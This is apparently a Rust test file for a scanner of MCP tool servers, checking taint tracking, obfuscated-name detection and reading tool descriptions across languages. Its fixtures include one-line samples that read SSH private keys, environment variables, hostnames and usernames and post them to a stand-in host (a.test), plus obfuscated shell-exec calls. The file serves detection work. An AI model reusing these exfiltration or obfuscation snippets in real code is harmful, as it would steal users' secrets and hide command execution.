//! Tests of taint propagation, of names in pieces, and of the languages that are read by words.

use super::tests::{read_text, tool_of, view_of};
use super::*;

/// What reaches the first kept call of a name.
fn taint_of(path: &str, text: &str, callee: &str) -> TaintedArguments {
    let calls = view_of(path, text).calls;
    calls.iter().find(|call| call.callee == callee).map(|call| call.taint).unwrap_or_default()
}

#[test]
fn a_tools_argument_is_followed_to_where_it_is_used() {
    let scripts = [
        "server.tool('a', 'b', { x: z.string() }, async ({ x }) => { exec(`ls ${x}`) })",
        "server.registerTool(\"a\", { description: `b`, inputSchema: {} }, async (args) => { const { x } = args; const c = 'ls ' + x; exec(c) })",
        "server.addTool({ name: 'a', description: 'b', execute: async (args) => exec(args.x) })",
        "s.setRequestHandler(CallToolRequestSchema, async (request) => { const { name, arguments: args } = request.params; exec(args.x.trim()) })",
        "s.registerTool('a', { description: 'b' }, run); async function run({ x }) { exec(x) }",
        "function go(x) { exec(x) } s.tool('a', 'b', {}, async ({ x }) => go(x))",
        "class A { async go(x) { exec(x) } start() { s.tool('a', 'b', {}, async ({ x }) => this.go(x)) } }",
        "s.tool('a', 'b', {}, async ({ x }) => { for (const y of [x]) exec(y) })",
        "s.tool('a', 'b', { x: z.number().or(z.string()) }, async ({ x }) => exec(x))",
        "s.tool('a', 'b', { n: z.number() }, async ({ n, x }) => exec(x))",
    ];
    for text in scripts {
        let text = format!("const {{ exec }} = require('child_process');\n{text}");
        assert!(taint_of("a.js", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
        assert!(taint_of("a.mts", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
    }
    let texts = [
        "@mcp.tool()\ndef a(x: str):\n    os.system(f'ls {x}')\n",
        "@log\n@server.tool(name='a')\nasync def a(x: str, ctx: Context):\n    c = 'ls ' + x\n    os.system(c)\n",
        "@server.call_tool()\nasync def a(name, arguments):\n    x = arguments['x']\n    os.system('ls %s' % x)\n",
        "def go(x):\n    os.system(x)\n@mcp.tool\ndef a(x: str):\n    go(x)\n",
        "class A:\n    def go(self, x):\n        os.system(x)\n    @tool\n    def a(self, x: str):\n        self.go(x)\n",
    ];
    for text in texts {
        let text = format!("import os\n{text}");
        assert!(taint_of("a.py", &text, "os.system").first.any(TaintSources::TOOL_INPUT), "{text}");
    }
}

#[test]
fn what_is_bounded_cleaned_or_another_function_is_not_a_tools_argument() {
    let scripts = [
        "s.tool('a', 'b', { x: z.enum(['a']), n: z.number() }, async ({ x, n }) => exec(`ls ${x} ${n}`))",
        "const S = z.object({ x: z.number().int().optional(), n: z.enum(['a']) }).strict(); s.registerTool('a', { inputSchema: S }, async ({ x, n }) => exec(`ls ${x} ${n}`))",
        "s.tool('a', 'b', { type: 'object', properties: { x: { type: 'integer' }, n: { type: 'string', enum: ['a'] } } }, async ({ x, n }) => exec(`ls ${x} ${n}`))",
        "s.tool('a', 'b', { x: z.string() }, async ({ x }) => exec(`head -n ${parseInt(x)} a`))",
        "s.tool('a', 'b', { x: z.string() }, async ({ x }) => 1); function other(x) { exec(x) }",
        "s.tool('a', 'b', { x: z.string() }, async ({ x }) => exec(x.length > 3 ? 'a' : 'b'))",
    ];
    for text in scripts {
        let text = format!("const {{ exec }} = require('child_process');\n{text}");
        assert!(!taint_of("a.js", &text, "child_process.exec").first.any(TaintSources::TOOL_INPUT), "{text}");
    }
    let python = "import os, shlex\n@mcp.tool()\ndef a(x: str, n: int):\n    os.system(f'ls {shlex.quote(x)} {n}')\n";
    assert!(!taint_of("a.py", python, "os.system").first.any(TaintSources::TOOL_INPUT));
    let asked = "const { exec } = require('child_process'); s.tool('a', 'b', {}, async ({ x }) => { if (!/^[a-z]+$/.test(x)) return; exec(`ls ${x}`) })";
    assert!(taint_of("a.js", asked, "child_process.exec").first.any(TaintSources::CHECKED));
    for guard in ["Path(x).resolve().is_relative_to(BASE)", "os.path.realpath(x).startswith(BASE)", "x.startswith('a')"]
    {
        let text =
            format!("import os\n@mcp.tool()\ndef a(x: str):\n    if not {guard}:\n        return\n    open(x)\n");
        assert!(taint_of("a.py", &text, "open").first.any(TaintSources::CHECKED), "{guard}");
    }
    let another = "import os\n@mcp.tool()\ndef a(x: str, y: str):\n    if not Path(y).is_relative_to(BASE):\n        return\n    open(x)\n";
    assert!(!taint_of("a.py", another, "open").first.any(TaintSources::CHECKED));
}

#[test]
fn a_short_name_of_one_function_says_nothing_in_another() {
    let text = "const fs=require('fs');function a(){var e=fs.readFileSync('/root/.ssh/id_rsa');return 1}function b(e){fetch(e)}";
    assert_eq!(taint_of("bundle.js", text, "fetch").first, TaintSources::NONE);
}

#[test]
fn secrets_and_names_are_followed_to_the_send() {
    let javascript = "const os=require('os');const h=os.hostname(),u=os.userInfo().username;fetch('https://a.test',{method:'POST',body:JSON.stringify({h,u})})";
    assert_eq!(taint_of("a.js", javascript, "fetch").rest.count(TaintSources::HOST_NAME | TaintSources::USER_NAME), 2);
    let hashed = "const os=require('os'),c=require('crypto');fetch('https://a.test/'+c.createHash('sha256').update(os.hostname()).digest('hex'))";
    assert!(!taint_of("a.js", hashed, "fetch").first.any(TaintSources::HOST_NAME));
    let python = "import requests\nfor p in ['/home/a/.ssh/id_rsa']:\n    with open(p) as f:\n        requests.post('https://a.test', data=f.read())\n";
    assert!(taint_of("a.py", python, "requests.post").rest.any(TaintSources::SECRET));
    let loops =
        "const d=[];for(const[k,v]of Object.entries(process.env))d.push(k+v);fetch('https://a.test/',{body:d.join()})";
    assert!(taint_of("a.js", loops, "fetch").rest.any(TaintSources::ENVIRONMENT));
    let one = "const k=process.env.SERVICE_KEY;fetch('https://a.test/',{headers:{k}})";
    assert!(!taint_of("a.js", one, "fetch").rest.any(TaintSources::ENVIRONMENT));
}

#[test]
fn names_in_pieces_are_put_together() {
    for text in [
        "require('child_' + 'process').exec(x)",
        "const c = require(['child', 'process'].join('_') && 'child_process'); require('child_process')['ex' + 'ec'](x)",
        "const c = require('ssecorp_dlihc'.split('').reverse().join('')); c.exec(x)",
    ] {
        assert!(view_of("a.js", text).calls.iter().any(|call| call.callee == "child_process.exec"), "{text}");
    }
    for text in [
        "getattr(__import__('o' + 's'), 'sys' + 'tem')(x)",
        "run = __import__('so'[::-1]).system\nrun(x)",
        "import os\nf = os.system\nf(x)",
        "__import__(''.join([chr(111), chr(115)])).system(x)",
    ] {
        assert!(view_of("a.py", text).calls.iter().any(|call| call.callee == "os.system"), "{text}");
    }
}

#[test]
fn tools_of_other_languages_are_read() {
    for (path, text) in [
        (
            "a.go",
            "t := mcp.NewTool(\"add\",\n mcp.WithDescription(\"Adds\"),\n mcp.WithString(\"x\", mcp.Description(\"y\")))",
        ),
        ("a.go", "var t = mcp.Tool{Name: \"add\", Description: `Adds`}"),
        ("a.go", "s.AddTool(\"add\", \"Adds\", handler)"),
        ("a.rs", "#[tool(description = \"Adds\")]\nasync fn add(&self, x: String) -> String { x }"),
        ("a.rs", "let t = Tool::new(\"add\", \"Adds\", schema);"),
        ("a.rs", "#[tool(name = \"add\", description = r#\"Adds\"#)]\nfn f<'a>(x: &'a str) {}"),
        ("A.java", "@Tool(name = \"add\", description = \"Adds\")\npublic int f(int x) { return x; }"),
        ("A.java", "@McpTool(description = \"Ad\" + \"ds\")\npublic int add(int x) { return x; }"),
        ("A.java", "var t = Tool.builder().name(\"add\").description(\"Adds\").build();"),
        ("a.kt", "server.addTool(name = \"add\", description = \"\"\"Adds\"\"\") { 1 }"),
        ("a.php", "<?php\n#[Tool(name: 'add', description: 'Adds')]\nfunction f() {}"),
        ("a.php", "<?php $server->registerTool('add', 'Adds', fn() => 1);"),
        ("a.rb", "tool \"add\", description: \"Adds\" do\nend"),
        ("a.rb", "server.define_tool(name: 'add', description: 'Adds') { 1 }"),
        ("a.rb", "tool = MCP::Tool.define(name: \"add\", description: \"Adds\") do |x| end"),
        (
            "add.rb",
            "module Tools\n  class Add < MCP::Tool\n    description \"Adds\"\n    input_schema(properties: { x: { type: \"string\", description: \"y\" } })\n    def self.call(x:) = x\n  end\nend",
        ),
        (
            "add.rb",
            "class Other < FastMcp::Tool\n  tool_name 'add'\n  description <<~TEXT.strip\n    Adds\n  TEXT\n  arguments do\n    required(:x)\n  end\nend",
        ),
        (
            "a.go",
            "const name = \"add\"\nvar said string = \"Adds\" // mcp\nt := mcp.NewTool(name, mcp.WithDescription(said))",
        ),
        (
            "a.go",
            "const (\n\tAdd = \"add\"\n\tText = `Ad` + \"ds\"\n)\nvar t = &mcp.Tool{Name: Add, Description: Text}",
        ),
        ("a.go", "mcp.NewServerTool(\"add\", \"Adds\", handler)"),
        ("a.rs", "/// Adds\n#[tool]\nasync fn add(&self) {}"),
        ("a.rs", "const TEXT: &str = \"Adds\"; // mcp\n#[tool(description = TEXT)]\nfn add() {}"),
        (
            "A.java",
            "class T { static final String TEXT = \"Adds\"; // mcp\n@Tool(name = \"add\", description = TEXT)\npublic int f(int x) { return x; } }",
        ),
        ("A.java", "@Tool(\"Adds\")\npublic int add(@P(\"x\") int x) { return x; }"),
        (
            "a.kt",
            "private const val TEXT: String = \"Adds\" // mcp\nserver.addTool(name = \"add\", description = TEXT) { 1 }",
        ),
        ("a.kt", "server.addTool(name = \"add\", description = \"\"\"\n  Adds\n\"\"\".trimIndent()) { 1 }"),
        (
            "a.php",
            "<?php\nclass A {\n const TEXT = 'Adds'; // mcp\n #[McpTool(name: 'add', description: self::TEXT)]\n public function f() {} }",
        ),
        ("a.php", "<?php\n#[McpTool(name: 'add', description: <<<'TEXT'\n  Adds\n  TEXT)]\nfunction f() {}"),
        (
            "A.cs",
            "[Description(\"Adds\")]\n[McpServerTool(Name = \"add\")]\npublic static int F([Description(\"which\")] int x) => x;",
        ),
        (
            "A.cs",
            "const string Text = \"Adds\"; // mcp\n[McpServerTool(Name = \"add\"), Description(Text)]\npublic static int F(int x) => x;",
        ),
        ("A.cs", "[McpServerTool(Name = \"add\"), Description(\"Adds\")]\npublic static int F(int x) => x;"),
        ("A.cs", "[McpServerTool]\n[Description(\"Adds\")]\npublic static int add(int x) => x;"),
    ] {
        let tool = tool_of(path, text);
        assert_eq!(tool.name.as_str(), "add", "{text}");
        assert_eq!(tool.description.as_deref(), Some("Adds"), "{text}");
    }
    assert_eq!(view_of("a.go", "// mcp.NewTool(\"add\")\nexec.Command(\"ls\", dir)"), SourceView::default());
}

#[test]
fn constants_of_other_files_are_read() {
    let go = "package t\nvar t = mcp.NewTool(ToolName, mcp.WithDescription(toolDescription + \" \" + texts.More))";
    let files = [
        ("tools/add.go", go),
        ("tools/names.go", "package t\nconst (\n\tToolName = \"add\"\n\ttoolDescription = `Adds`\n)"),
        ("texts/texts.go", "package texts\nconst More string = \"all\""),
        ("other/names.go", "package other\nconst toolDescription = \"Something else\""),
        ("Tools.cs", "[McpServerTool(Name = Names.Weigh), Description(Names.Text)]\npublic static int F(int x) => x;"),
        (
            "Names.cs",
            "static class Names { public const string Weigh = \"weigh\"; public const string Text = \"Weighs\"; }",
        ),
    ];
    let files = files.map(|(path, text)| (path.to_owned(), capdex_model::bundle::BundleFile::new(text.as_bytes())));
    let evidence = crate::Evidence::gather(&capdex_model::bundle::Bundle::local("folder:input", files.into()));
    let told: Vec<(&str, Option<&str>, bool)> = evidence
        .tools
        .iter()
        .map(|tool| (tool.name.as_str(), tool.description.as_deref(), tool.unread.description))
        .collect();
    assert_eq!(told, [("weigh", Some("Weighs"), false), ("add", Some("Adds all"), false)]);
}

#[test]
fn texts_that_cannot_be_told_are_marked() {
    for (path, text, told) in [
        ("a.go", "mcp.NewTool(\"add\", mcp.WithDescription(said))", None),
        ("a.go", "mcp.NewTool(\"add\", mcp.WithDescription(fmt.Sprintf(\"Adds %s\", kind)))", Some("Adds %s")),
        ("a.go", "var t = mcp.Tool{Name: \"add\", Description: \"Adds \" + kind}", Some("Adds …")),
        ("a.rb", "server.define_tool(name: 'add', description: \"Adds #{kind}\") { 1 }", Some("Adds #{kind}")),
        (
            "A.cs",
            "[McpServerTool(Name = \"add\"), Description($\"Adds {Kind}\")]\npublic int F() => 1;",
            Some("Adds {Kind}"),
        ),
        ("a.kt", "server.addTool(name = \"add\", description = said) { 1 }", None),
        ("A.java", "@Tool(name = \"add\", description = Texts.ADD)\npublic int f() { return 1; }", None),
    ] {
        let tool = tool_of(path, text);
        assert_eq!(
            (tool.name.as_str(), tool.description.as_deref(), tool.unread.description),
            ("add", told, true),
            "{text}"
        );
    }
}

#[test]
fn what_only_looks_like_a_tool_of_another_language_is_none() {
    for (path, text) in [
        ("a.go", "type Tool struct { Name string }\nfunc (t Tool) Add() {}"),
        ("a.go", "for _, t := range all { out = append(out, Tool{Name: t.Name, Description: t.Description}) }"),
        ("a.rb", "class Toolbox < Base\n  description \"x\"\nend\nclass Mallet < Tool\nend"),
        ("a.java", "class Tool { Tool(String name) {} }"),
        ("A.cs", "class Tool : Thing { public string Name; }"),
    ] {
        assert_eq!(view_of(path, text).tools, [], "{text}");
    }
}

#[test]
fn shells_of_other_languages_are_calls() {
    let shape =
        |path: &str, text: &str| view_of(path, text).calls.first().and_then(|call| call.arguments.first().cloned());
    let composed = |shape: Option<Argument>| matches!(shape, Some(Argument::Composed(_)));
    assert!(composed(shape("a.go", "exec.Command(\"sh\", \"-c\", \"du \" + dir)")));
    assert!(composed(shape("a.go", "exec.Command(\"bash\", \"-c\", fmt.Sprintf(\"du %s\", dir))")));
    assert!(composed(shape("a.rs", "Command::new(\"sh\").arg(\"-c\").arg(format!(\"du {}\", dir))")));
    assert!(composed(shape("a.php", "<?php shell_exec(\"du $dir\");")));
    assert_eq!(shape("a.go", "exec.Command(\"sh\", \"-c\", \"ls\")"), Some(Argument::Literal("ls".to_owned())));
}

#[test]
fn shallow_files_fit_the_stack_of_whoever_asks() {
    let pieces =
        ["(", "[", "{", "!", "a=>", "a?b:", "a+", "typeof ", "`${", "a(", "(a,", "async()=>", "{a:", "function(){"];
    let work = move || {
        for piece in pieces {
            for count in 1..=NEAR_LEVELS {
                let _ = read_text("a.js", &format!("eval(x);{}", piece.repeat(count)));
                let _ = read_text("a.ts", &format!("eval(x);{}", piece.repeat(count)));
                let _ = read_text("a.py", &format!("eval(x)\n{}", piece.repeat(count)));
            }
        }
        let nested =
            |open: &str, close: &str, count: usize| format!("eval(x);{}1{};", open.repeat(count), close.repeat(count));
        for count in 1..=NEAR_LEVELS {
            for (open, close) in
                [("(", ")"), ("[", "]"), ("f(", ")"), ("(()=>", ")"), ("f(function(){return ", "})"), ("`${", "}`")]
            {
                let _ = read_text("a.js", &nested(open, close, count));
                let _ = read_text("a.tsx", &nested(open, close, count));
            }
        }
    };
    #[expect(clippy::disallowed_methods, reason = "the test is about the size of a stack")]
    let thread = std::thread::Builder::new().stack_size(1024 * 1024).spawn(work);
    assert!(thread.expect("a small stack can be had").join().is_ok());
}
